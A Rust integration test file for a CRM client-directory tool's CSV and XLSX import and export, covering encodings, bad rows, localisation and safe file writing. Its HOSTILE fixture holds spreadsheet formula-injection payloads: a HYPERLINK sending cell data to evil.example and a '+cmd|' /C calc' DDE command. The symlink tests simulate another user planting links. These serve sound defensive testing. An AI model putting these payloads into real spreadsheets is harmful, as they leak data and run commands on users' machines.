//! `crmcard directory import/export`: the real binary on real files.

use std::path::Path;
use std::process::Command;

use crmcard::crm::CrmKey;
use crmcard::directory::{Directory, Match};

use crate::home::{BIN, Home, s};

/// The CRM the commands below work on unless they say another.
const URL_A: &str = "http://127.0.0.1:8080/api/v1/crm/";
/// `--base-url URL_A --object-id 1`.
const CRM_A: [&str; 4] = ["--base-url", URL_A, "--object-id", "1"];

/// `CRM_A` then `rest`.
fn on_a<'a>(rest: &[&'a str]) -> Vec<&'a str> {
    CRM_A.iter().copied().chain(rest.iter().copied()).collect()
}

const CLIENTS: &str = "\u{feff}ID;Фамилия;lastname;firstname;middlename;phones;emails\n\
    1001;x;Иванова;Мария;Ивановна;8 916 123 45 67, 8 (495) 765-43-21;maria@example.com\n\
    1002;x;Дмитриев;Алексей;;\"+7 999 274-63-75\n+375 29 123-45-67\";a.dmitriev@mail.ru, a@x.ru\n";

#[test]
fn import_with_bom_and_semicolons_into_a_file_then_search_it() {
    let home = Home::new();
    let csv = home.write("clients.csv", CLIENTS.as_bytes());
    let db = home.path("dir/directory.sqlite");
    let stderr = home.ok(&["directory", "--file", s(&db), "import", s(&csv)]);
    assert!(
        stderr.contains("2 rows: 2 clients added, 0 updated, 0 unchanged, 0 bad rows skipped"),
        "{stderr}"
    );
    let dir = Directory::open(&db).expect("open");
    let hits = dir.search("89992746375", 10).expect("search");
    assert_eq!(hits.len(), 1);
    assert_eq!(
        (hits[0].entry.id.as_str(), hits[0].why),
        ("1002", Match::ExactPhone)
    );
    assert_eq!(hits[0].entry.phones, ["+79992746375", "+375291234567"]);
    assert_eq!(hits[0].entry.emails, ["a.dmitriev@mail.ru", "a@x.ru"]);
    let hits = dir.search("мария иванова", 10).expect("search");
    assert_eq!(hits[0].entry.phones, ["+79161234567", "+74957654321"]);
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt;
        let mode = std::fs::metadata(&db)
            .expect("metadata")
            .permissions()
            .mode();
        assert_eq!(mode & 0o777, 0o600);
    }
}

#[test]
fn bad_rows_are_reported_by_line_and_skipped() {
    let home = Home::new();
    let csv = home.write(
        "clients.csv",
        "id,lastname,phones,emails\n\
         1,Ким,89161234567,\n\
         ,Безымянный,89161234568,\n\
         2,Ли,\"8 916 000 00 01;\n8 916 000 00 02\",\n\
         3,Пак,нет,\n\
         4,Цой\n\
         5,Ан,89161234570,ан@почта.рф\n"
            .as_bytes(),
    );
    let db = home.path("directory.sqlite");
    let stderr = refused(&home, &["directory", "--file", s(&db), "import", s(&csv)]);
    assert!(stderr.contains("line 3: no id"), "{stderr}");
    assert!(
        stderr.contains("line 6: \"нет\" is not a phone number"),
        "{stderr}"
    );
    assert!(
        stderr.contains("line 7: 2 cells where the header has 4"),
        "{stderr}"
    );
    assert!(!stderr.contains("line 4"), "{stderr}");
    assert!(
        stderr.contains("6 rows: 3 clients added, 0 updated, 0 unchanged, 3 bad rows skipped"),
        "{stderr}"
    );
    assert!(stderr.contains("3 rows not imported"), "{stderr}");
    let dir = Directory::open(&db).expect("open");
    assert_eq!(dir.count().expect("count"), 3);
    let two = dir.get("2").expect("get").expect("imported");
    assert_eq!(two.phones, ["+79160000001", "+79160000002"]);
}

/// `text` as Russian Excel saves a CSV: Windows-1251, CRLF line endings.
fn as_russian_excel(text: &str) -> Vec<u8> {
    let crlf = text.replace('\n', "\r\n");
    let (bytes, _, unmappable) = encoding_rs::WINDOWS_1251.encode(&crlf);
    assert!(!unmappable);
    bytes.into_owned()
}

#[test]
fn a_csv_from_russian_excel_is_read_as_windows_1251_with_its_own_line_numbers() {
    let home = Home::new();
    let csv = home.write(
        "excel.csv",
        &as_russian_excel(
            "id;lastname;firstname;phones\n\
             1;Иванова;Мария;8 916 123-45-67\n\
             2;Ёлкин;\"Пётр\nПетрович\";8 916 123-45-68\n\
             3;Сидоров;Иван;нет\n\
             4;Ким\n",
        ),
    );
    let db = home.path("directory.sqlite");
    let out = home.run(&["directory", "--file", s(&db), "import", s(&csv)]);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(1), "{stderr}");
    assert!(stderr.contains("read as Windows-1251"), "{stderr}");
    // The lines a text editor shows: the quoted cell takes two.
    assert!(
        stderr.contains("skipped line 5: \"нет\" is not a phone number"),
        "{stderr}"
    );
    assert!(
        stderr.contains("skipped line 6: 2 cells where the header has 4"),
        "{stderr}"
    );
    assert!(stderr.contains("2 rows not imported"), "{stderr}");
    let dir = Directory::open(&db).expect("open");
    let two = dir.get("2").expect("get").expect("imported");
    assert_eq!(two.lastname, "Ёлкин");
    assert_eq!(
        dir.get("1").expect("get").expect("imported").firstname,
        "Мария"
    );

    // The same rows in UTF-8 with CRLF: the same lines, and said so.
    let utf8 = home.write(
        "crlf.csv",
        "id;phones\r\n1;89161234567\r\n\r\n2;нет\r\n".as_bytes(),
    );
    let out = home.run(&["directory", "--file", s(&db), "import", s(&utf8)]);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(!out.status.success());
    assert!(stderr.contains("UTF-8 text"), "{stderr}");
    assert!(stderr.contains("skipped line 4: "), "{stderr}");
}

#[test]
fn import_messages_follow_the_ui_language() {
    let home = Home::new();
    let csv = home.write(
        "clients.csv",
        "id,phones\n1,89161234567\n,89161234568\n".as_bytes(),
    );
    let db = home.path("directory.sqlite");
    let import = ["directory", "--file", s(&db), "import", s(&csv)];
    // From LANG, as the TUI chooses.
    let out = Command::new(BIN)
        .args(import)
        .env("HOME", home.dir.path())
        .env("XDG_CONFIG_HOME", home.path("config"))
        .env("LANG", "ru_RU.UTF-8")
        .output()
        .expect("run");
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(!out.status.success());
    assert!(stderr.contains("строка 3 пропущена: нет id"), "{stderr}");
    assert!(stderr.contains("клиентов добавлено: 1"), "{stderr}");
    assert!(stderr.contains("не импортировано строк: 1"), "{stderr}");
    // From --lang.
    let stderr = refused(&home, &[&["--lang", "ru"][..], &import].concat());
    assert!(stderr.contains("без изменений: 1"), "{stderr}");
    // From the config file.
    let config = home.path("config/crmcard/config.toml");
    std::fs::create_dir_all(config.parent().expect("dir")).expect("mkdir");
    std::fs::write(&config, "language = \"ru\"\n").expect("write config");
    let stderr = refused(&home, &import);
    assert!(stderr.contains("текст в кодировке UTF-8"), "{stderr}");
    let no_id = home.write("no-id.csv", b"name\nx\n");
    let stderr = refused(&home, &["directory", "--file", s(&db), "import", s(&no_id)]);
    assert!(stderr.contains("нет столбца `id`"), "{stderr}");
}

#[test]
fn a_file_without_an_id_column_is_refused() {
    let home = Home::new();
    let csv = home.write("clients.csv", b"name,phone\n\xd0\x90,1\n");
    let db = home.path("directory.sqlite");
    let out = home.run(&["directory", "--file", s(&db), "import", s(&csv)]);
    assert!(!out.status.success());
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(stderr.contains("no `id` column"), "{stderr}");
    let out = home.run(&[
        "directory",
        "--file",
        s(&db),
        "import",
        s(&home.path("none.csv")),
    ]);
    assert!(!out.status.success());
    assert!(String::from_utf8_lossy(&out.stderr).contains("none.csv"));
}

#[test]
fn reimport_changes_nothing_and_export_round_trips() {
    let home = Home::new();
    let csv = home.write("clients.csv", CLIENTS.as_bytes());
    // The data directory's file of the CRM, as the TUI uses it.
    home.ok(&on_a(&["directory", "import", s(&csv)]));
    let stderr = home.ok(&on_a(&["directory", "import", s(&csv)]));
    assert!(
        stderr.contains("2 rows: 0 clients added, 0 updated, 2 unchanged"),
        "{stderr}"
    );
    let db = home.crm_file(&CrmKey::new(URL_A, "1"));
    assert_eq!(
        Directory::open(&db).expect("open").count().expect("count"),
        2
    );
    assert!(!home.crm_file(&CrmKey::demo()).exists());

    let exported = home.path("export.csv");
    let stderr = home.ok(&on_a(&["directory", "export", s(&exported)]));
    assert!(stderr.contains("2 clients written"), "{stderr}");
    let text = std::fs::read_to_string(&exported).expect("read export");
    assert!(
        text.starts_with("\u{feff}id;lastname;firstname;middlename;phones;emails\n"),
        "{text}"
    );
    assert!(
        text.contains(
            "1001;Иванова;Мария;Ивановна;'+79161234567, +74957654321;maria@example.com\n"
        ),
        "{text}"
    );

    // Into the demo directory, then out again: the same text.
    home.ok(&["--demo", "directory", "import", s(&exported)]);
    assert!(home.crm_file(&CrmKey::demo()).exists());
    let again = home.path("again.csv");
    home.ok(&["--demo", "directory", "export", s(&again)]);
    assert_eq!(std::fs::read_to_string(&again).expect("read"), text);
    // And the export imported over the original changes nothing.
    let stderr = home.ok(&on_a(&["directory", "import", s(&exported)]));
    assert!(
        stderr.contains("0 clients added, 0 updated, 2 unchanged"),
        "{stderr}"
    );
}

/// Runs and expects failure; returns stderr.
fn refused(home: &Home, args: &[&str]) -> String {
    let out = home.run(args);
    let stderr = String::from_utf8_lossy(&out.stderr).into_owned();
    assert!(!out.status.success(), "{args:?} succeeded: {stderr}");
    stderr
}

#[cfg(unix)]
fn mode(path: &Path) -> u32 {
    use std::os::unix::fs::PermissionsExt;
    std::fs::symlink_metadata(path)
        .expect("metadata")
        .permissions()
        .mode()
        & 0o777
}

#[cfg(unix)]
#[test]
fn export_never_writes_through_a_link_a_pipe_or_a_device() {
    let home = Home::new();
    let csv = home.write("clients.csv", CLIENTS.as_bytes());
    home.ok(&on_a(&["directory", "import", s(&csv)]));
    // Another user's link to a file of ours (as root: the link handed over
    // to `nobody`, as if they had planted it).
    let victim = home.write("victim.txt", b"victim");
    let link = home.path("out.csv");
    std::os::unix::fs::symlink(&victim, &link).expect("symlink");
    let _ = std::os::unix::fs::lchown(&link, Some(65534), Some(65534));
    let stderr = refused(&home, &on_a(&["directory", "export", s(&link)]));
    assert!(stderr.contains("this is a symbolic link"), "{stderr}");
    assert!(stderr.contains("--force"), "{stderr}");
    assert_eq!(std::fs::read(&victim).expect("victim"), b"victim");
    assert_eq!(mode(&victim), 0o644);
    // A named pipe someone reads: refused at once, never opened.
    let fifo = home.path("pipe.csv");
    let made = Command::new("mkfifo").arg(&fifo).status().expect("mkfifo");
    assert!(made.success());
    let stderr = refused(&home, &on_a(&["directory", "export", s(&fifo)]));
    assert!(stderr.contains("named pipe"), "{stderr}");
    let stderr = refused(&home, &on_a(&["directory", "export", "/dev/null"]));
    assert!(stderr.contains("this is a device"), "{stderr}");
    let stderr = refused(
        &home,
        &on_a(&["directory", "export", s(&home.path("data"))]),
    );
    assert!(stderr.contains("this is a directory"), "{stderr}");

    // --force replaces the link with a new private file; the file it
    // pointed to is untouched.
    let stderr = home.ok(&on_a(&["directory", "export", "--force", s(&link)]));
    assert!(stderr.contains("2 clients written"), "{stderr}");
    let meta = std::fs::symlink_metadata(&link).expect("export");
    assert!(meta.file_type().is_file(), "the link is still there");
    assert_eq!(mode(&link), 0o600);
    assert!(
        std::fs::read_to_string(&link)
            .expect("read")
            .contains("Иванова")
    );
    assert_eq!(std::fs::read(&victim).expect("victim"), b"victim");
    // Even forced, a directory is not replaced.
    refused(
        &home,
        &on_a(&["directory", "export", "--force", s(&home.path("data"))]),
    );
}

/// `nobody` plants a link in a directory both users may write (sticky, like
/// /tmp), pointing at a file of ours, waiting for our export; run as root
/// (`runuser`), passed over elsewhere.
#[cfg(unix)]
#[test]
fn a_link_planted_by_another_user_gets_no_clients() {
    use std::os::unix::fs::PermissionsExt;
    let home = Home::new();
    let as_nobody = |args: &[&str]| {
        Command::new("runuser")
            .args(["-u", "nobody", "--"])
            .args(args)
            .status()
            .is_ok_and(|s| s.success())
    };
    let shared = home.path("shared");
    std::fs::create_dir(&shared).expect("mkdir");
    std::fs::set_permissions(home.dir.path(), std::fs::Permissions::from_mode(0o711))
        .expect("chmod home");
    std::fs::set_permissions(&shared, std::fs::Permissions::from_mode(0o1777))
        .expect("chmod shared");
    let victim = home.write("notes.txt", b"mine");
    let planted = shared.join("clients.csv");
    if !as_nobody(&["ln", "-s", s(&victim), s(&planted)]) {
        return; // not root, or no runuser: the refusal is tested above
    }
    let csv = home.write("clients.csv", CLIENTS.as_bytes());
    home.ok(&on_a(&["directory", "import", s(&csv)]));
    let stderr = refused(&home, &on_a(&["directory", "export", s(&planted)]));
    assert!(stderr.contains("this is a symbolic link"), "{stderr}");
    assert_eq!(std::fs::read(&victim).expect("victim"), b"mine");
    assert_eq!(mode(&victim), 0o644);
    // Nor can they read the export through a pipe of theirs.
    let fifo = shared.join("pipe.csv");
    assert!(as_nobody(&["mkfifo", s(&fifo)]));
    let stderr = refused(&home, &on_a(&["directory", "export", s(&fifo)]));
    assert!(stderr.contains("named pipe"), "{stderr}");
    // A file of theirs is not ours to replace either.
    let theirs = shared.join("theirs.csv");
    assert!(as_nobody(&["touch", s(&theirs)]));
    let stderr = refused(&home, &on_a(&["directory", "export", s(&theirs)]));
    assert!(stderr.contains("belongs to another user"), "{stderr}");
}

#[cfg(unix)]
#[test]
fn export_replaces_only_a_writable_file_of_ones_own() {
    use std::os::unix::fs::PermissionsExt;
    let home = Home::new();
    let csv = home.write("clients.csv", CLIENTS.as_bytes());
    home.ok(&on_a(&["directory", "import", s(&csv)]));
    let read_only = home.write("kept.csv", b"keep me");
    std::fs::set_permissions(&read_only, std::fs::Permissions::from_mode(0o444)).expect("chmod");
    let stderr = refused(&home, &on_a(&["directory", "export", s(&read_only)]));
    assert!(stderr.contains("read-only"), "{stderr}");
    assert_eq!(std::fs::read(&read_only).expect("read"), b"keep me");
    // In Russian when the UI is.
    let stderr = refused(
        &home,
        &on_a(&["--lang", "ru", "directory", "export", s(&read_only)]),
    );
    assert!(stderr.contains("файл только для чтения"), "{stderr}");
    home.ok(&on_a(&["directory", "export", "--force", s(&read_only)]));
    assert_eq!(mode(&read_only), 0o600);
    assert!(
        std::fs::read_to_string(&read_only)
            .expect("read")
            .contains("Иванова")
    );

    // Another user's file (only root can make one here).
    let theirs = home.write("theirs.csv", b"theirs");
    if std::os::unix::fs::chown(&theirs, Some(65534), Some(65534)).is_ok() {
        let stderr = refused(&home, &on_a(&["directory", "export", s(&theirs)]));
        assert!(stderr.contains("belongs to another user"), "{stderr}");
        assert_eq!(std::fs::read(&theirs).expect("read"), b"theirs");
    }

    // An own file readable by others is replaced by a private one, and
    // nothing else is left beside it.
    let shared = home.write("shared.csv", b"old");
    std::fs::set_permissions(&shared, std::fs::Permissions::from_mode(0o644)).expect("chmod");
    home.ok(&on_a(&["directory", "export", s(&shared)]));
    assert_eq!(mode(&shared), 0o600);
    let leftovers = std::fs::read_dir(home.dir.path())
        .expect("dir")
        .filter_map(|e| e.ok())
        .filter(|e| e.file_name().to_string_lossy().starts_with(".tmp"))
        .count();
    assert_eq!(leftovers, 0);
}

#[test]
fn export_to_a_dash_writes_standard_output() {
    let home = Home::new();
    let csv = home.write("clients.csv", CLIENTS.as_bytes());
    home.ok(&on_a(&["directory", "import", s(&csv)]));
    let out = home.run(&on_a(&["directory", "export", "-"]));
    assert!(out.status.success());
    let text = String::from_utf8(out.stdout).expect("utf-8");
    assert!(text.starts_with("\u{feff}id;lastname;"), "{text}");
    assert!(text.contains("1002;Дмитриев;Алексей"), "{text}");
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(
        stderr.contains("2 clients written to standard output"),
        "{stderr}"
    );
    assert!(!home.path("-").exists());
}

/// Every client of a directory file, in its order.
fn entries(db: &Path) -> Vec<crmcard::directory::DirEntry> {
    let mut all = Vec::new();
    Directory::open(db)
        .expect("open")
        .for_each(|e| {
            all.push(e);
            Ok(())
        })
        .expect("read");
    all
}

const HOSTILE: &str = "id,lastname,firstname,middlename,phones,emails\n\
    2001,\"=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"x\"\")\",+cmd|' /C calc'!A0,@SUM(1),+79160000001,=x@y.com\n\
    2002,'t Hooft,-Анна,'=hand-made,89160000002,\"a@b.ru; =c@d.ru\"\n\
    -3,''два,Ольга,,8 (916) 000-00-03,\n";

#[test]
fn export_neutralises_formulas_and_reads_back_exactly() {
    let home = Home::new();
    let csv = home.write("hostile.csv", HOSTILE.as_bytes());
    let first = home.path("first.sqlite");
    home.ok(&["directory", "--file", s(&first), "import", s(&csv)]);
    let imported = entries(&first);
    let hostile = imported.iter().find(|e| e.id == "2001").expect("2001");
    assert_eq!(
        hostile.lastname,
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")"
    );
    assert_eq!(hostile.emails, ["=x@y.com"]);
    // A hand-made `'` before a formula is the spreadsheet's text mark.
    let other = imported.iter().find(|e| e.id == "2002").expect("2002");
    assert_eq!(
        (other.lastname.as_str(), other.middlename.as_str()),
        ("'t Hooft", "=hand-made")
    );

    let exported = home.path("export.csv");
    home.ok(&["directory", "--file", s(&first), "export", s(&exported)]);
    let text = std::fs::read_to_string(&exported).expect("read");
    // No cell starts as a formula; every phone cell is marked as text.
    let mut reader = csv::ReaderBuilder::new()
        .delimiter(b';')
        .from_reader(text.trim_start_matches('\u{feff}').as_bytes());
    for record in reader.records() {
        let record = record.expect("record");
        for cell in record.iter() {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "{cell:?} would be computed"
            );
        }
        assert!(record[4].starts_with("'+7"), "{:?}", &record[4]);
    }
    assert!(text.contains("'=HYPERLINK("), "{text}");
    assert!(
        text.contains(";'+cmd|' /C calc'!A0;'@SUM(1);'+79160000001;'=x@y.com\n"),
        "{text}"
    );
    assert!(
        text.contains("2002;''t Hooft;'-Анна;'=hand-made;"),
        "{text}"
    );

    // Read back by crmcard: exactly the same clients, and the same file.
    let second = home.path("second.sqlite");
    home.ok(&["directory", "--file", s(&second), "import", s(&exported)]);
    assert_eq!(entries(&second), imported);
    let again = home.path("again.csv");
    home.ok(&["directory", "--file", s(&second), "export", s(&again)]);
    assert_eq!(std::fs::read_to_string(&again).expect("read"), text);
}

#[test]
fn xlsx_export_has_text_cells_only_and_reads_back_exactly() {
    use calamine::{Data, Reader};
    let home = Home::new();
    let csv = home.write("hostile.csv", HOSTILE.as_bytes());
    let first = home.path("first.sqlite");
    home.ok(&["directory", "--file", s(&first), "import", s(&csv)]);
    let book = home.path("clients.XLSX");
    let stderr = home.ok(&["directory", "--file", s(&first), "export", s(&book)]);
    assert!(stderr.contains("3 clients written"), "{stderr}");
    assert_eq!(mode(&book), 0o600);

    let mut workbook: calamine::Xlsx<_> = calamine::open_workbook(&book).expect("a workbook");
    let formulas = workbook.worksheet_formula("clients").expect("formulas");
    assert!(
        formulas.used_cells().next().is_none(),
        "a formula was written"
    );
    let range = workbook.worksheet_range("clients").expect("sheet");
    let cell = |row: usize, col: usize| range.get((row, col)).cloned().unwrap_or(Data::Empty);
    assert_eq!(cell(0, 4), Data::String("phones".into()));
    let hostile = (1..range.height())
        .find(|&r| cell(r, 0) == Data::String("2001".into()))
        .expect("2001");
    assert_eq!(
        cell(hostile, 1),
        Data::String("=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")".into())
    );
    assert_eq!(cell(hostile, 4), Data::String("+79160000001".into()));
    assert_eq!(cell(hostile, 5), Data::String("=x@y.com".into()));
    for (_, _, value) in range.used_cells() {
        assert!(matches!(value, Data::String(_)), "{value:?} is not text");
    }

    let second = home.path("second.sqlite");
    let stderr = home.ok(&["directory", "--file", s(&second), "import", s(&book)]);
    assert!(stderr.contains("3 rows: 3 clients added"), "{stderr}");
    assert!(!stderr.contains("UTF-8"), "{stderr}");
    assert_eq!(entries(&second), entries(&first));
}

#[test]
fn an_xlsx_typed_in_excel_imports_with_numbers_as_phones_and_rows_by_number() {
    let home = Home::new();
    let book = home.path("typed.xlsx");
    let mut workbook = rust_xlsxwriter::Workbook::new();
    let sheet = workbook.add_worksheet();
    for (col, name) in (0u16..).zip(["ID", "LastName", "Phones", "Emails"]) {
        sheet.write_string(0, col, name).expect("header");
    }
    sheet.write_number(1, 0, 7001.0).expect("id");
    sheet.write_string(1, 1, "Орлова").expect("name");
    sheet
        .write_number(1, 2, 89160000007.0)
        .expect("phone as a number");
    sheet
        .write_string(1, 3, "o@x.ru; orlova@x.ru")
        .expect("emails");
    // Row 3 left empty; row 4 has no id.
    sheet.write_string(3, 1, "Безымянный").expect("name");
    sheet.write_string(4, 0, "7002").expect("id");
    sheet
        .write_string(4, 2, "+7 916 000-00-08\n8 495 765-43-21")
        .expect("phones");
    workbook.save(&book).expect("save");

    let db = home.path("directory.sqlite");
    let out = home.run(&["directory", "--file", s(&db), "import", s(&book)]);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(!out.status.success(), "{stderr}");
    assert!(stderr.contains("skipped line 4: no id"), "{stderr}");
    assert!(stderr.contains("3 rows: 2 clients added"), "{stderr}");
    let dir = Directory::open(&db).expect("open");
    let orlova = dir.get("7001").expect("get").expect("imported");
    assert_eq!(orlova.phones, ["+79160000007"]);
    assert_eq!(orlova.emails, ["o@x.ru", "orlova@x.ru"]);
    let other = dir.get("7002").expect("get").expect("imported");
    assert_eq!(other.phones, ["+79160000008", "+74957654321"]);

    // Not a workbook at all.
    let fake = home.write("fake.xlsx", b"id;lastname\n1;x\n");
    let stderr = refused(&home, &["directory", "--file", s(&db), "import", s(&fake)]);
    assert!(stderr.contains("not a workbook"), "{stderr}");
}

#[test]
fn city_code_from_the_config_completes_city_numbers() {
    let home = Home::new();
    let config = home.path("config/crmcard/config.toml");
    std::fs::create_dir_all(config.parent().expect("dir")).expect("mkdir");
    std::fs::write(&config, "[phone]\ncity_code = \"495\"\n").expect("write config");
    let csv = home.write("clients.csv", "id,phones\n1,765-43-21\n".as_bytes());
    let stderr = home.ok(&on_a(&["directory", "import", s(&csv)]));
    assert!(!stderr.contains("unknown keys"), "{stderr}");
    let dir = Directory::open(&home.crm_file(&CrmKey::new(URL_A, "1"))).expect("open");
    assert_eq!(
        dir.get("1").expect("get").expect("imported").phones,
        ["+74957654321"]
    );
}
